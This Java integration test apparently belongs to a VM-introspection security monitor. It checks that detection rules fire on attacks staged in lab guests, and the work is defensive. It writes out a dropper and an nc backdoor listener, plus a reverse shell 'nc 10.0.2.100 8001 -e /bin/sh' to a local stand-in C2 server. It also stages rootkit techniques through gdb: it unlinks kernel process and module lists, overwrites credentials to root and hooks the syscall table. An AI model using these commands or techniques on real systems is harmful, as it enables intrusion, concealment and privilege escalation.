package io.chirp.monitor;

import io.chirp.core.VirtAddr;
import io.chirp.detect.Detector;
import io.chirp.events.OcsfEvent;
import io.chirp.events.schema.OcsfSchema;
import io.chirp.events.schema.SchemaLocator;
import io.chirp.events.sink.JsonLinesSink;
import io.chirp.events.validate.EventValidator;
import io.chirp.events.validate.ValidationReport;
import io.chirp.hypervisor.LiveVm;
import io.chirp.hypervisor.VmInventory;
import io.chirp.hypervisor.qemu.GdbRemote;
import io.chirp.lab.Lab;
import io.chirp.lab.LabGuest;
import io.chirp.lab.Scenario;
import io.chirp.linux.LinuxKernel;
import io.chirp.linux.LinuxProcess;
import io.chirp.linux.ModuleInfo;
import io.chirp.linux.Modules;
import io.chirp.linux.Processes;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Predicate;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The monitor end to end on real guests: each of CHIRP's shipped rules fires on an attack staged in the lab, and
 * a benign scenario raises nothing. Rootkit techniques are staged from the host through the gdbstub, the way a
 * rootkit would patch kernel memory.
 */
class MonitorIT {
    private static final Duration WAIT = Duration.ofSeconds(90);

    private record Run(List<EventPipeline.Alert> alerts, List<OcsfEvent> events, EventPipeline pipeline, Monitor monitor)
            implements AutoCloseable {
        static Run start(LabGuest g, boolean trace, Path dir) {
            List<EventPipeline.Alert> alerts = new CopyOnWriteArrayList<>();
            List<OcsfEvent> events = new CopyOnWriteArrayList<>();
            EventPipeline p = new EventPipeline(List.of(new JsonLinesSink(dir.resolve("events.jsonl"))), Detector.shipped(),
                    alerts::add, events::add);
            Monitor m = Monitor.start(List.of(g.name()), new VmWatcher.Options(Duration.ofMillis(500), trace, 2), p);
            Run r = new Run(alerts, events, p, m);
            r.awaitEvent(e -> e.classUid() == 5019 && e.json().path("state").asText().equals("attached"));
            return r;
        }

        void awaitEvent(Predicate<OcsfEvent> p) {
            long deadline = System.nanoTime() + WAIT.toNanos();
            while (System.nanoTime() < deadline) {
                if (events.stream().anyMatch(p)) return;
                sleep(200);
            }
            throw new AssertionError("event not seen in " + WAIT + "; events: " + events.stream()
                    .map(e -> e.classUid() + "/" + e.activityName()).toList());
        }

        /** Waits for {@code n} alerts from the heuristics (each an OCSF Detection Finding of CHIRP's checks). */
        void awaitFindings(int n) {
            long deadline = System.nanoTime() + WAIT.toNanos();
            while (System.nanoTime() < deadline) {
                if (alerts.stream().filter(a -> a.detection().title().contains("Suspicious Process or Module State")).count() >= n) return;
                sleep(200);
            }
            throw new AssertionError("fewer than " + n + " heuristic alerts in " + WAIT + "; alerts: "
                    + alerts.stream().map(a -> a.detection().title()).toList());
        }

        /** Waits for an alert on a finding of {@code check} whose title mentions {@code part}. */
        void awaitFinding(String check, String part) {
            long deadline = System.nanoTime() + WAIT.toNanos();
            while (System.nanoTime() < deadline) {
                if (alerts.stream().anyMatch(a -> a.trigger().json().at("/finding_info/types/0").asText().equals(check)
                        && a.trigger().json().at("/finding_info/title").asText().contains(part))) return;
                sleep(200);
            }
            throw new AssertionError("no " + check + " finding on '" + part + "' in " + WAIT + "; findings: "
                    + alerts.stream().map(a -> a.trigger().json().at("/finding_info/title").asText()).toList());
        }

        void awaitAlert(String titlePart) {
            long deadline = System.nanoTime() + WAIT.toNanos();
            while (System.nanoTime() < deadline) {
                if (alerts.stream().anyMatch(a -> a.detection().title().contains(titlePart))) return;
                sleep(200);
            }
            throw new AssertionError("no alert '" + titlePart + "' in " + WAIT + "; alerts: "
                    + alerts.stream().map(a -> a.detection().title()).toList());
        }

        @Override public void close() {
            monitor.close();
            pipeline.close();
            // Everything the monitor emitted is valid OCSF 1.8.0 (checked against the schema files themselves).
            EventValidator v = new EventValidator(OcsfSchema.load(SchemaLocator.require(Path.of("").toAbsolutePath())));
            for (OcsfEvent e : events) {
                ValidationReport r = v.validate(e.json());
                assertThat(r.isValid()).as("%s\n%s", e.toJsonLine(), r).isTrue();
            }
            assertThat(events).hasSizeGreaterThan(3);
        }
    }

    @Test
    void stagedAttacksRaiseTheirAlertsAndBenignActivityRaisesNone(@TempDir Path dir) throws Exception {
        try (ServerSocket c2 = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            List<Socket> held = new CopyOnWriteArrayList<>();
            Thread.ofVirtual().start(() -> {
                while (!c2.isClosed()) {
                    try { held.add(c2.accept()); } catch (Exception e) { return; }
                }
            });
            Scenario s = Scenario.standard().connectToHost(c2.getLocalPort()); // guest port 8001 -> our "C2"
            try (LabGuest g = Lab.fromEnvironment().boot(Lab.Options.defaults().withScenario(s).withName("mon-" + ProcessHandle.current().pid()));
                 Run run = Run.start(g, true, dir)) {
                // At attach, the heuristics find the scenario's staged state once: the miner runs from /tmp and calls
                // itself sleep, alice's kworkerd calls itself sleep. Nothing else fires.
                run.awaitFindings(3);
                sleep(4000);
                List<EventPipeline.Alert> atAttach = List.copyOf(run.alerts());
                assertThat(atAttach).allSatisfy(a -> assertThat(a.detection().title()).contains("Suspicious Process or Module State"));
                assertThat(atAttach).extracting(a -> a.trigger().json().at("/finding_info/types/0").asText() + " "
                        + a.trigger().json().at("/evidences/0/process/name").asText())
                        .containsExactlyInAnyOrder("exe_location evil_miner", "masquerade evil_miner", "masquerade kworkerd");
                // Benign: an administrator looks around. Nothing may fire, and the staged state is not raised again.
                g.shell("ls / >/dev/null; cat /etc/passwd >/dev/null; /bin/echo ok >/dev/null; uname -a >/dev/null",
                        Duration.ofSeconds(60));
                sleep(4000);
                assertThat(run.alerts()).as("benign activity").containsExactlyElementsOf(atAttach);

                // A dropper runs from /tmp, opens a backdoor port, calls home with a shell, loads a rootkit module.
                g.shell("cp /bin/busybox /tmp/dropper; /tmp/dropper true; "
                        + "(exec -a nc /tmp/dropper -ll -p 31337 -e /bin/cat) </dev/null >/dev/null 2>&1 & "
                        + "(nc 10.0.2.100 8001 -e /bin/sh) </dev/null >/dev/null 2>&1 & "
                        + "insmod /lib/modules/extra/knark.ko", Duration.ofSeconds(60));
                run.awaitAlert("Temporary Folder");
                run.awaitAlert("Reverse Shell");
                run.awaitAlert("New Listening Port");
                run.awaitAlert("Kernel Module Loaded While");
                run.awaitAlert("Known Linux Rootkit");
                // the heuristics raise the new state once each: the backdoor runs from /tmp as "nc", knark is a rootkit
                run.awaitFinding("rootkit_modules", "knark");
                run.awaitFinding("exe_location", "/tmp/dropper");
                sleep(3000);
                assertThat(run.alerts()).filteredOn(a -> a.trigger().json().at("/finding_info/title").asText().contains("knark")
                        && a.trigger().json().at("/finding_info/types/0").asText().equals("rootkit_modules")).hasSize(1);
                // the reverse shell is attributed: the finding's evidence names the nc process and its command line
                EventPipeline.Alert rev = run.alerts().stream().filter(a -> a.detection().title().contains("Reverse Shell"))
                        .findFirst().orElseThrow();
                assertThat(rev.trigger().json().at("/process/cmd_line").asText()).contains("nc 10.0.2.100 8001 -e /bin/sh");
                assertThat(rev.finding().classUid()).isEqualTo(2004);
                assertThat(held).as("the guest really called our C2 server").isNotEmpty();

                // The VM goes away: the monitor reports it and keeps running.
                g.close();
                run.awaitEvent(e -> e.classUid() == 5019 && e.json().path("state").asText().equals("stopped"));
            }
        }
        List<String> lines = Files.readAllLines(dir.resolve("events.jsonl"));
        assertThat(lines).anySatisfy(l -> assertThat(l).contains("\"class_uid\":2004"));
        assertThat(lines).anySatisfy(l -> assertThat(l).contains("\"class_uid\":5019").contains("\"state\":\"stopped\""));
    }

    @Test
    void rootkitTechniquesRaiseIntegrityAlerts(@TempDir Path dir) throws Exception {
        try (LabGuest g = Lab.fromEnvironment().boot(Lab.Options.defaults().withName("rk-" + ProcessHandle.current().pid()));
             Run run = Run.start(g, false, dir)) {
            sleep(3000);
            // the standard scenario's staged masquerades are raised at attach; nothing else, and never again
            run.awaitFindings(3);
            int staged = run.alerts().size();
            assertThat(run.alerts()).as("a guest with only the staged masquerades")
                    .allSatisfy(a -> assertThat(a.detection().title()).contains("Suspicious Process or Module State"));
            LinuxKernel k;
            LiveVm live = LiveVm.attach(new VmInventory().find(g.name()), io.chirp.hypervisor.QemuVm.MemoryPath.SHARED_RAM);
            try (live) {
                k = LinuxKernel.attach(live.memory(), List.of());
                Processes ps = new Processes(k);
                LinuxProcess miner = ps.list(false, false).processes().stream().filter(p -> p.comm().equals("evil_miner"))
                        .findFirst().orElseThrow();
                LinuxProcess alice = ps.list(false, false).processes().stream().filter(p -> p.comm().equals("kworkerd"))
                        .findFirst().orElseThrow();
                ModuleInfo crc16 = new Modules(k).list().modules().stream().filter(m -> m.name().equals("crc16"))
                        .findFirst().orElseThrow();
                try (GdbRemote gdb = GdbRemote.connect("127.0.0.1", g.gdbPort())) {
                    gdb.physicalMode(true);
                    // hide a process and a module the way rootkits do: unlink them from the kernel's lists
                    unlink(gdb, k, miner.task() + k.layout().offset("task_struct", "tasks"));
                    unlink(gdb, k, crc16.address() + k.layout().offset("module", "list"));
                    // escalate a user's process to root by writing its credentials
                    gdb.writeMemory(phys(k, alice.cred() + k.layout().offset("cred", "uid")), le32(0));
                    gdb.writeMemory(phys(k, alice.cred() + k.layout().offset("cred", "euid")), le32(0));
                    // hook a rarely used system call: point its table slot into module memory
                    long table = k.symbol("sys_call_table");
                    gdb.writeMemory(phys(k, table + 8L * 153), le64(crc16.base() + 0x10)); // 153 = vhangup
                }
            }
            run.awaitAlert("Process Hidden");
            run.awaitAlert("Module Hidden");
            run.awaitAlert("System Call Hooked");
            run.awaitAlert("Became Root");
            assertThat(run.alerts()).filteredOn(a -> a.detection().title().contains("Suspicious Process or Module State"))
                    .as("the staged state is raised once").hasSize(staged);
            assertThat(g.shell("echo alive", Duration.ofSeconds(30))).contains("alive");
        }
    }

    private static void unlink(GdbRemote gdb, LinuxKernel k, long entry) {
        long next = k.reader().u64(entry), prev = k.reader().u64(entry + 8);
        gdb.writeMemory(phys(k, prev), le64(next));
        gdb.writeMemory(phys(k, next + 8), le64(prev));
    }

    private static long phys(LinuxKernel k, long va) { return k.kernelSpace().physical(new VirtAddr(va)).value(); }

    private static byte[] le64(long v) { return ByteBuffer.allocate(8).order(ByteOrder.LITTLE_ENDIAN).putLong(v).array(); }

    private static byte[] le32(int v) { return ByteBuffer.allocate(4).order(ByteOrder.LITTLE_ENDIAN).putInt(v).array(); }

    private static void sleep(long ms) {
        try {
            Thread.sleep(ms);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
